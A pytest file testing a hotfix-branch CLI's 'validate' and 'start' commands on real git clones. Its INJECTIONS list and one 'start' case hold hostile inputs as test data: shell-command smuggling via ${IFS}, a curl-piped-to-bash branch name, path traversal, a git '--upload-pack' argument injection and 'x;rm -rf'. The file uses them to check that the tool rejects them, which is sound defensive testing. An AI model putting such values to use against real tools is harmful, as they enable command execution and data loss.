"""`hotfix validate` end to end through the CLI on real git repositories (full and shallow clones)."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from hotfix_actions.cli import cli
from tests.conftest import read_outputs
from tests.gitrepos import Repo, clone, hotfix_branch, make_project


def run_validate(repo: Path, *args: str, env: dict[str, str] | None = None) -> tuple[int, dict[str, object]]:
    result = CliRunner().invoke(cli, ["validate", "--json", "--repo", str(repo), *args], env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.stdout.strip().splitlines()[-1])


def checks(doc: dict[str, object]) -> dict[str, tuple[str, str]]:
    return {c["check"]: (c["result"], c["reason"]) for c in doc["checks"]}  # type: ignore[index,union-attr]


def test_good_hotfix_passes_on_a_full_clone(tmp_path: Path) -> None:
    _, work = make_project(tmp_path)
    branch = hotfix_branch(work)
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 0, doc
    assert doc["verdict"] == "PASS"
    outputs = doc["outputs"]
    assert outputs["valid"] == "true"  # type: ignore[index]
    assert outputs["version"] == "1.0.1"  # type: ignore[index]
    assert outputs["tag"] == "v1.0.1"  # type: ignore[index]
    assert outputs["severity"] == "high"  # type: ignore[index]
    assert outputs["needs-approval"] == "false"  # type: ignore[index]
    assert outputs["changed-files"] == "2"  # type: ignore[index]
    rows = checks(doc)
    assert [r[0] for r in rows.values()] == ["pass"] * 7
    assert "package.json" in rows["version"][1]


def test_shallow_clone_deepens_until_it_can_prove_the_base(tmp_path: Path) -> None:
    origin, work = make_project(tmp_path)
    for i in range(30):  # history deeper than the first deepen round
        work.git("switch", "-q", "main")
        work.commit({f"src/m{i}.py": f"x = {i}\n"}, f"fix: change {i}")
    work.git("push", "-q", "origin", "main")
    work.git("tag", "-f", "-a", "v1.0.0", "-m", "moved")  # the release is the current main head
    work.git("push", "-q", "-f", "origin", "v1.0.0")
    branch = hotfix_branch(work, files={"src/app.py": "x = 1\n", "src/b.py": "y\n"})
    for i in range(3):
        work.commit({"src/app.py": f"x = {i + 2}\n"}, f"fix: follow-up {i}\n\nSeverity: critical\nFixes: INC-7")
    work.git("push", "-q", "origin", branch)

    shallow = clone(origin, tmp_path / "shallow", branch=branch, depth=1)
    assert shallow.git("rev-parse", "--is-shallow-repository") == "true"
    code, doc = run_validate(shallow.path)
    assert code == 0, doc
    assert doc["outputs"]["severity"] == "critical"  # type: ignore[index]
    rows = checks(doc)
    assert rows["base"][0] == "pass"
    assert rows["version"][0] == "pass"
    assert rows["commits"] == ("pass", "4 commit(s) follow Conventional Commits, severity critical, fixes INC-7")


def test_branch_forked_from_an_old_main_fails_with_the_lag(tmp_path: Path) -> None:
    origin, work = make_project(tmp_path)
    branch = hotfix_branch(work)
    work.git("switch", "-q", "main")
    work.commit({"src/other.py": "z\n"}, "fix: something else")
    work.commit({"src/other.py": "zz\n"}, "fix: and more")
    work.git("push", "-q", "origin", "main")
    shallow = clone(origin, tmp_path / "ci", branch=branch, depth=1)
    code, doc = run_validate(shallow.path)
    assert code == 1
    assert doc["outputs"]["valid"] == "false"  # type: ignore[index]
    result, reason = checks(doc)["base"]
    assert result == "fail"
    assert "2 commits behind" in reason and "rebase onto main" in reason


def test_repository_without_tags_is_rejected_with_the_fix(tmp_path: Path) -> None:
    _, work = make_project(tmp_path, tag=False)
    branch = hotfix_branch(work)
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 1
    result, reason = checks(doc)["version"]
    assert result == "fail" and "no release tag" in reason and "git tag -a v1.0.0" in reason


@pytest.mark.parametrize(("version", "why"), [("1.0.2", "skips"), ("1.1.1", "minor"), ("0.9.1", "backwards")])
def test_wrong_versions_are_rejected(tmp_path: Path, version: str, why: str) -> None:
    _, work = make_project(tmp_path)
    branch = hotfix_branch(work, version=version)
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 1
    assert why in checks(doc)["version"][1]


def test_existing_tag_and_undeclared_bump_are_rejected(tmp_path: Path) -> None:
    _, work = make_project(tmp_path)
    branch = hotfix_branch(work, bump=False)
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 1
    assert "package.json says 1.0.0, expected 1.0.1" in checks(doc)["version"][1]
    work.git("switch", "-q", "--detach", "main")
    work.commit({"other.txt": "x\n"}, "fix: released from elsewhere")
    work.git("tag", "v1.0.1")  # someone released 1.0.1 from another line of history
    work.git("push", "-q", "origin", "v1.0.1")
    code, doc = run_validate(work.path, "--branch", branch)
    assert "tag v1.0.1 already exists" in checks(doc)["version"][1]


def test_risky_paths_need_approval_but_do_not_fail(tmp_path: Path, gha: dict[str, Path]) -> None:
    _, work = make_project(tmp_path)
    branch = hotfix_branch(work, files={"db/migrations/0002_fix.sql": "alter table x;\n", "src/app.py": "y\n"})
    result = CliRunner().invoke(cli, ["validate", "--repo", str(work.path), "--branch", branch])
    assert result.exit_code == 0, result.output
    outputs = read_outputs(gha["output"])
    assert outputs["needs-approval"] == "true"
    assert json.loads(outputs["risky-files"]) == ["db/migrations/0002_fix.sql"]
    assert (
        "::warning title=risky paths::hotfix touches risky paths and needs approval: db/migrations/0002_fix.sql"
        in result.output
    )
    summary = gha["summary"].read_text()
    assert "| risky paths | ⚠️ warn | needs approval: db/migrations/0002_fix.sql |" in summary
    assert "validate-hotfix: PASS" in summary


@pytest.mark.parametrize(
    "changed", [".hotfix.yml", ".github/workflows/deploy.yml", ".github/actions/setup/action.yml", "svc/.hotfix.yml"]
)
def test_changes_to_what_the_pipeline_trusts_need_approval_by_default(
    tmp_path: Path, gha: dict[str, Path], changed: str
) -> None:
    """The configuration and the workflows decide how a hotfix is checked and shipped: a hotfix that changes them is
    a risky change unless the configuration says otherwise."""
    _, work = make_project(tmp_path)
    branch = hotfix_branch(work, files={changed: "validate:\n  check_base: false\n", "src/app.py": "y\n"})
    result = CliRunner().invoke(cli, ["validate", "--repo", str(work.path), "--branch", branch])
    assert result.exit_code == 0, result.output
    outputs = read_outputs(gha["output"])
    assert outputs["needs-approval"] == "true" and json.loads(outputs["risky-files"]) == [changed]


def test_too_large_a_change_fails(tmp_path: Path) -> None:
    _, work = make_project(tmp_path)
    files = {f"src/gen/f{i}.py": "x\n" * 30 for i in range(15)}
    branch = hotfix_branch(work, files=files)
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 1
    assert checks(doc)["size"][0] == "fail"
    assert "452 line(s) (max 400)" in checks(doc)["size"][1]


def test_config_file_changes_the_rules(tmp_path: Path) -> None:
    _, work = make_project(tmp_path)
    files = {f"src/gen/f{i}.py": "x\n" * 30 for i in range(15)}
    branch = hotfix_branch(work, files=files, subject="hotfix: bigger change")
    (work.path / ".hotfix.yml").write_text(
        "validate:\n  size:\n    max_lines: 1000\n    max_files: 40\n  commits:\n    types: [fix, hotfix]\n"
    )
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 0, doc
    assert checks(doc)["size"][0] == "pass"


def test_branch_comes_from_github_env_when_not_given(tmp_path: Path) -> None:
    _, work = make_project(tmp_path)
    branch = hotfix_branch(work)
    work.git("switch", "-q", "main")
    code, doc = run_validate(work.path, env={"GITHUB_HEAD_REF": "", "GITHUB_REF_NAME": branch})
    assert code == 0, doc
    code, doc = run_validate(work.path, env={"GITHUB_HEAD_REF": "hotfix/v9.9.9-nope", "GITHUB_REF_NAME": branch})
    assert code != 0


INJECTIONS = [
    'hotfix/v1.0.1-x";echo${IFS}pwned;#',
    "hotfix/v1.0.1-$({curl,-sSfL,x}${IFS}|${IFS}bash)",
    "hotfix/../../etc",
    "-hotfix/--upload-pack=x",
    "hotfix/v1.0.1-" + "a" * 290,
    "hotfix/v1.0.1-\u00fcber",
]


@pytest.mark.parametrize("branch", INJECTIONS)
def test_hostile_branch_names_never_reach_git(tmp_path: Path, branch: str, monkeypatch: pytest.MonkeyPatch) -> None:
    _, work = make_project(tmp_path)
    log = tmp_path / "git-argv.log"
    shim_dir = tmp_path / "shim"
    shim_dir.mkdir()
    real_git = "/usr/bin/git" if Path("/usr/bin/git").exists() else "git"
    shim = shim_dir / "git"
    shim.write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> "{log}"\nexec {real_git} "$@"\n')
    shim.chmod(shim.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", f"{shim_dir}{os.pathsep}{os.environ['PATH']}")
    before = {p.name for p in tmp_path.iterdir()}
    code, doc = run_validate(work.path, "--branch", branch)
    assert code == 1
    assert doc["verdict"] == "FAIL"
    rows = checks(doc)
    assert rows["branch name"][0] == "fail"
    assert all(r[0] == "skip" for name, r in rows.items() if name != "branch name")
    logged = log.read_text() if log.exists() else ""
    assert branch not in logged and "pwned" not in logged and "upload-pack" not in logged
    assert {p.name for p in tmp_path.iterdir()} - before <= {"git-argv.log"}


def test_not_a_git_repository_is_a_usage_error(tmp_path: Path) -> None:
    code, doc = run_validate(tmp_path, "--branch", "hotfix/v1.0.1-x")
    assert code == 2
    assert "not a git work tree" in doc["reasons"][0]  # type: ignore[index]
    assert "actions/checkout" in doc["reasons"][0]  # type: ignore[index]


def test_shallow_clone_without_remote_history_is_never_a_silent_pass(tmp_path: Path) -> None:
    origin, work = make_project(tmp_path)
    branch = hotfix_branch(work)
    shallow = clone(origin, tmp_path / "ci", branch=branch, depth=1)
    shallow.git("remote", "remove", "origin")  # nothing to deepen from
    shallow.git("branch", "main", "HEAD~1", check=False)
    code, doc = run_validate(shallow.path)
    assert code in (1, 3)
    assert doc["verdict"] != "PASS"


def test_start_then_validate_passes(tmp_path: Path) -> None:
    origin, work = make_project(tmp_path)
    dev = clone(origin, tmp_path / "dev", branch="main")
    runner = CliRunner()
    result = runner.invoke(
        cli,
        ["start", "fix-login", "--severity", "high", "--fixes", "INC-9", "--push", "--repo", str(dev.path), "--json"],
    )
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout.strip().splitlines()[-1])
    assert doc["outputs"]["branch"] == "hotfix/v1.0.1-fix-login"
    assert doc["outputs"]["bumped-files"] == "package.json"
    assert dev.git("branch", "--show-current") == "hotfix/v1.0.1-fix-login"
    assert '"version": "1.0.1"' in (dev.path / "package.json").read_text()
    assert Repo(origin).git("rev-parse", "refs/heads/hotfix/v1.0.1-fix-login") == dev.head()
    code, vdoc = run_validate(dev.path)
    assert code == 0, vdoc


@pytest.mark.parametrize(
    ("setup", "slug", "code", "text"),
    [
        ("dirty", "fix-a", 2, "uncommitted changes"),
        ("branch", "fix-a", 1, "already exists"),
        ("tag", "fix-a", 1, "tag v1.0.1 already exists"),
        ("none", "Fix_A", 2, "has 'F' at position 1"),
        ("none", "x;rm -rf", 2, "has ';' at position 2"),
    ],
)
def test_start_refuses(tmp_path: Path, setup: str, slug: str, code: int, text: str) -> None:
    origin, work = make_project(tmp_path)
    if setup == "branch":
        hotfix_branch(work, slug="fix-a")
        work.git("switch", "-q", "main")
    if setup == "tag":
        work.git("switch", "-q", "--detach", "main")
        work.commit({"other.txt": "x\n"}, "fix: released from elsewhere")
        work.git("tag", "v1.0.1")
        work.git("push", "-q", "origin", "v1.0.1")
        work.git("switch", "-q", "main")
    if setup == "dirty":
        (work.path / "README.md").write_text("edited\n")
    head_before = work.git("rev-parse", "HEAD")
    branches_before = work.git("branch", "--list")
    result = CliRunner().invoke(cli, ["start", slug, "--repo", str(work.path), "--json"])
    assert result.exit_code == code, result.output
    assert text in result.stdout
    assert work.git("rev-parse", "HEAD") == head_before
    assert work.git("branch", "--list") == branches_before
